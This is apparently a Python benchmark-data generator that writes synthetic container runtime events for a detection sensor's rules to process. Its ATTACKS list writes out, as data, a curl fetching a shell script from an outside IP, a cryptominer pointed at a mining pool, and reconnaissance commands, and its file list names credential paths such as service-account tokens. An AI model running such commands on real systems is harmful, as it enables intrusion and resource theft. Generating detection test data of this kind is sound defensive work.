#!/usr/bin/env python3
"""Generates a realistic mix of kdr runtime events (the sensor's JSON form) for benchmarks.

    gen_runtime.py --events N --mix exec|file --out FILE [--seed S]

The shapes follow events the sensor records on a node running workloads: process starts with
argv, ancestors and stdio; opens of watched files (tokens, configs, files created in
containers); connects; exits. `exec` mixes are 60% process starts, `file` mixes 60% opens.
A few attack-like events (one in a thousand) keep the stateful rules busy.
"""
import argparse, datetime, json, random

COMMANDS = [
    ["/usr/bin/python3", "python3", "manage.py", "runserver", "0.0.0.0:8000"],
    ["/usr/local/bin/node", "node", "server.js"],
    ["/bin/sh", "sh", "-c", "pg_isready -h localhost"],
    ["/usr/bin/curl", "curl", "-fsS", "http://127.0.0.1:8080/healthz"],
    ["/bin/busybox", "wget", "-q", "--spider", "http://localhost:9090/-/ready"],
    ["/usr/bin/java", "java", "-Xmx512m", "-jar", "/app/app.jar"],
    ["/usr/sbin/nginx", "nginx: worker process"],
    ["/bin/bash", "bash", "/docker-entrypoint.sh"],
    ["/usr/bin/git", "git", "rev-parse", "HEAD"],
    ["/bin/cat", "cat", "/tmp/ready"],
    ["/usr/bin/redis-cli", "redis-cli", "ping"],
    ["/bin/busybox", "ls", "-la", "/data"],
    ["/usr/bin/tar", "tar", "-czf", "/backup/db.tgz", "/var/lib/db"],
    ["/usr/bin/gzip", "gzip", "-9", "/var/log/app.log.1"],
    ["/usr/bin/sed", "sed", "-i", "s/a/b/", "/etc/app.conf"],
]
ATTACKS = [
    ["/bin/busybox", "id"], ["/bin/busybox", "whoami"], ["/bin/busybox", "uname", "-a"],
    ["/usr/bin/curl", "curl", "-s", "http://198.51.100.3/x.sh"],
    ["/opt/x", "x", "-o", "stratum+tcp://198.51.100.9:3333"],
]
ANCESTORS = [
    [{"pid": 40, "exe": "/bin/sh", "args": ["sh", "-c", "/start.sh"]}, {"pid": 30, "exe": "/usr/bin/containerd-shim-runc-v2", "args": ["containerd-shim-runc-v2"]}],
    [{"pid": 41, "exe": "/usr/local/bin/node", "args": ["node", "server.js"]}, {"pid": 31, "exe": "/usr/bin/containerd-shim-runc-v2", "args": ["containerd-shim-runc-v2"]}],
    [{"pid": 42, "exe": "/usr/bin/kubelet", "args": ["kubelet"]}, {"pid": 1, "exe": "/lib/systemd/systemd", "args": ["/sbin/init"]}],
]
FILES = [
    ("/var/run/secrets/kubernetes.io/serviceaccount/token", 0), ("/etc/passwd", 0),
    ("/tmp/cache-%d.db", 0o102), ("/tmp/upload-%d", 0o1101), ("/etc/kubernetes/kubelet.conf", 0),
    ("/var/lib/kubelet/pods/p%d/volumes/x/token", 0), ("/root/.bash_history", 0o2101),
    ("/etc/ld.so.cache", 0), ("/app/data/%d.json", 0o1101),
]

def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--events", type=int, default=200000)
    ap.add_argument("--mix", choices=["exec", "file"], default="exec")
    ap.add_argument("--out", required=True)
    ap.add_argument("--seed", type=int, default=7)
    a = ap.parse_args()
    rnd = random.Random(a.seed)
    containers = ["%064x" % rnd.getrandbits(256) for _ in range(60)]
    t = 1_700_000_000_000_000_000
    main_share = 0.6
    with open(a.out, "w") as out:
        for i in range(a.events):
            t += rnd.randint(20_000, 400_000)
            host = rnd.random() < 0.15
            ctx = {"node": "node-a"}
            if not host:
                c = rnd.choice(containers)
                ctx.update({"containerId": c, "containerName": "app", "pod": "web-" + c[:5],
                            "namespace": "shop", "image": "registry.test/shop/web:1"})
            cmd = rnd.choice(ATTACKS) if rnd.random() < 0.001 else rnd.choice(COMMANDS)
            proc = {"pid": 1000 + i % 30000, "tgid": 1000 + i % 30000, "ppid": 40, "uid": 0,
                    "comm": cmd[1].split("/")[-1][:15], "exe": cmd[0], "args": cmd[1:],
                    "stdio": ["pipe", "pipe", "pipe"], "ancestors": rnd.choice(ANCESTORS)}
            r = rnd.random()
            primary = "exec" if a.mix == "exec" else "open"
            if r < main_share:
                kind = primary
            else:
                kind = rnd.choice(["open" if primary == "exec" else "exec", "connect", "exit"])
            if kind == "exec":
                action = {"type": "exec"}
            elif kind == "open":
                path, flags = rnd.choice(FILES)
                if "%d" in path:
                    path = path % rnd.randint(0, 999)
                action = {"type": "open", "path": path, "flags": flags, "result": 3}
            elif kind == "connect":
                action = {"type": "connect", "remote": {"family": "inet", "address": "10.96.%d.%d" % (rnd.randint(0, 3), rnd.randint(1, 250)), "port": rnd.choice([53, 80, 443, 5432, 6379])}, "result": 0}
            else:
                action = {"type": "exit", "code": 0}
            secs, nanos = divmod(t, 1_000_000_000)
            stamp = datetime.datetime.fromtimestamp(secs, datetime.timezone.utc).strftime("%Y-%m-%dT%H:%M:%S") + ".%09dZ" % nanos
            ev = {"id": "node-a:1:%d" % i, "time": stamp, "context": ctx,
                  "payload": {"runtime": {"process": proc, "cgroupId": 1, "mntNs": 1, "action": action}}}
            out.write(json.dumps(ev, separators=(",", ":")) + "\n")

main()
